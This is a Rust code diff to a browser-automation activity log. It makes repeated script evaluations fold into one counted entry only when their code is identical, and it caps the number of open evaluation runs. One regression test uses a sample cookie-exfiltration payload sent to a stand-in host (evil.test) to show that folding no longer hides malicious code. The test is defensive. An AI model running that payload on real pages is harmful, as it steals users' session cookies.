@@ -7,12 +7,14 @@
 //! uploads, downloads, dialogs, tabs opened and closed, cookies touched,
 //! captures; everything else a client sends (the hundreds of
 //! `DOM.*` reads a framework makes) stays out, and runs of the same thing
-//! by the same client on the same tab fold into one entry with a count.
-//! Evaluations fold per client and tab over [`RUN_WINDOW`] even with other
-//! entries between them (a framework runs scripts around every click), so
-//! they are written when their window ends: the record is read in time
-//! order, not in the order of writing. Typed text is never kept, only how long it was; nor
-//! are cookie values, dialog prompt text or any token.
+//! by the same client on the same tab fold into one entry with a count:
+//! only the same thing, word for word, so a count never hides a different
+//! one. Evaluations of the same code fold per client and tab over
+//! [`RUN_WINDOW`] even with other entries between them (a framework runs
+//! the same scripts around every click), so they are written when their
+//! window ends: the record is read in time order, not in the order of
+//! writing. Typed text is never kept, only how long it was; nor are cookie
+//! values, dialog prompt text or any token.
 //!
 //! Bounded: every text an entry keeps (a URL, a page's title in a
 //! question, a summary, a name) is cut at [`TEXT_MAX`] characters with a
@@ -137,8 +139,9 @@ impl Entry {
     }
 
     /// Whether `next` is this entry again: the same client doing the same
-    /// thing on the same tab soon after (evaluations fold whatever their
-    /// text, the last one's kept).
+    /// thing, word for word, on the same tab soon after. Never two
+    /// different things: `evaluate: steal()` then `evaluate: 1` are two
+    /// entries, not "evaluate: 1 ×2".
     fn absorbs(&self, next: &Entry) -> bool {
         self.source == next.source
             && self.client_id == next.client_id
@@ -146,7 +149,7 @@ impl Entry {
             && self.tab == next.tab
             && self.kind == next.kind
             && self.failed == next.failed
-            && (self.kind == Kind::Evaluation || self.summary == next.summary)
+            && self.summary == next.summary
             && next.at.saturating_sub(self.at) <= RUN_WINDOW.as_millis() as u64
     }
 
@@ -196,6 +199,9 @@ fn cut_in_place(text: &mut String) {
 pub const RUN_WINDOW: Duration = Duration::from_secs(10);
 /// Entries kept in memory when there is no folder (tests, `--no-control`).
 const KEPT_IN_MEMORY: usize = 2000;
+/// Evaluation runs open at once at most: a client that runs a new script
+/// each time closes (writes) the oldest run, and costs no more per entry.
+const OPEN_RUNS_MAX: usize = 64;
 /// How much later than its time an entry is written at most (an
 /// evaluation run when its window ends, after the writer's pause), with
 /// room to spare: a reader that asks from a time on reads back only this
@@ -341,17 +347,19 @@ impl ActivityRecord {
         let first = buffer.pending.is_empty();
         if entry.kind == Kind::Evaluation {
             match buffer.evaluations.iter_mut().find(|run| run.absorbs(&entry)) {
-                Some(run) => {
-                    run.count += 1;
-                    run.summary = entry.summary;
+                Some(run) => run.count += 1,
+                None => {
+                    if buffer.evaluations.len() >= OPEN_RUNS_MAX {
+                        let oldest = buffer.evaluations.remove(0);
+                        buffer.pending.push(oldest);
+                    }
+                    buffer.evaluations.push(entry);
                 }
-                None => buffer.evaluations.push(entry),
             }
         } else if let Some(last) = buffer.pending.last_mut()
             && last.absorbs(&entry)
         {
             last.count += 1;
-            last.summary = entry.summary;
             last.url = entry.url.or(last.url.take());
         } else {
             buffer.pending.push(entry);
@@ -529,7 +537,7 @@ mod tests {
         record.record(at(4, evaluation.clone()));
         // A framework's scripts around an input do not split the run.
         record.record(at(5, click("Puppeteer", "T3")));
-        record.record(at(6, Entry { summary: "evaluate: 2".into(), ..evaluation }));
+        record.record(at(6, evaluation));
         let entries = record.read(&Query::default());
         let seen: Vec<(&str, Option<&str>, u32, &str)> =
             entries.iter().map(|e| (e.client.as_str(), e.tab.as_deref(), e.count, e.summary.as_str())).collect();
@@ -537,7 +545,7 @@ mod tests {
             seen,
             [
                 ("Puppeteer", Some("T3"), 1, "click at (10, 20)"),
-                ("Puppeteer", Some("T2"), 2, "evaluate: 2"),
+                ("Puppeteer", Some("T2"), 2, "evaluate: 1"),
                 ("Puppeteer", Some("T2"), 1, "click at (10, 20)"),
                 ("Playwright", Some("T2"), 1, "click at (10, 20)"),
                 ("Playwright", Some("T1"), 2, "click at (10, 20)"),
@@ -574,6 +582,51 @@ mod tests {
         let record = ActivityRecord::new(None, DEFAULT_RETENTION);
         record.record(Entry::now(Source::Agent, "http", Kind::Input, summary));
         assert!(record.read(&Query::default())[0].summary.chars().count() <= TEXT_MAX + MARKER_ROOM);
+    }
+
+    /// Issue 46, item 4: `evaluate(steal)` then `evaluate("1")` within the
+    /// window read "evaluate: 1 ×2", and the code that ran first was gone.
+    #[test]
+    fn a_fold_never_hides_different_code() {
+        let record = ActivityRecord::new(None, DEFAULT_RETENTION);
+        let start = now_millis();
+        let evaluate = |n: u64, code: &str| Entry {
+            at: start + n,
+            tab: Some("T1".into()),
+            ..Entry::now(Source::Cdp, "Puppeteer", Kind::Evaluation, format!("evaluate: {code}"))
+        };
+        record.record(evaluate(0, "fetch('https://evil.test/?c=' + document.cookie)"));
+        record.record(evaluate(1, "1"));
+        record.record(evaluate(2, "1"));
+        let seen: Vec<(u32, String)> =
+            record.read(&Query::default()).into_iter().map(|e| (e.count, e.summary)).collect();
+        assert_eq!(
+            seen,
+            [
+                (2, "evaluate: 1".to_string()),
+                (1, "evaluate: fetch('https://evil.test/?c=' + document.cookie)".to_string())
+            ]
+        );
+        // Other kinds fold word for word as well.
+        record.record(Entry { at: start + 3, ..click("Puppeteer", "T1") });
+        record.record(Entry { at: start + 4, summary: "right click at (1, 1)".into(), ..click("Puppeteer", "T1") });
+        let clicks = record.read(&Query { limit: Some(2), ..Query::default() });
+        assert_eq!(clicks.iter().map(|e| e.count).collect::<Vec<_>>(), [1, 1]);
+    }
+
+    #[test]
+    fn a_client_that_runs_new_code_each_time_keeps_each_and_a_bounded_buffer() {
+        let record = ActivityRecord::new(None, DEFAULT_RETENTION);
+        let start = now_millis();
+        for n in 0..500u64 {
+            let code = format!("evaluate: step({n})");
+            record.record(Entry { at: start + n, ..Entry::now(Source::Cdp, "Puppeteer", Kind::Evaluation, code) });
+        }
+        assert!(record.buffer().evaluations.len() <= OPEN_RUNS_MAX);
+        let entries = record.read(&Query { limit: Some(1000), ..Query::default() });
+        assert_eq!(entries.len(), 500, "each distinct code is an entry of its own");
+        assert_eq!(entries[0].summary, "evaluate: step(499)");
+        assert_eq!(entries[499].summary, "evaluate: step(0)");
     }
 
     /// Issue 46, item 3: a page's 2 MB URL (and title) went whole into
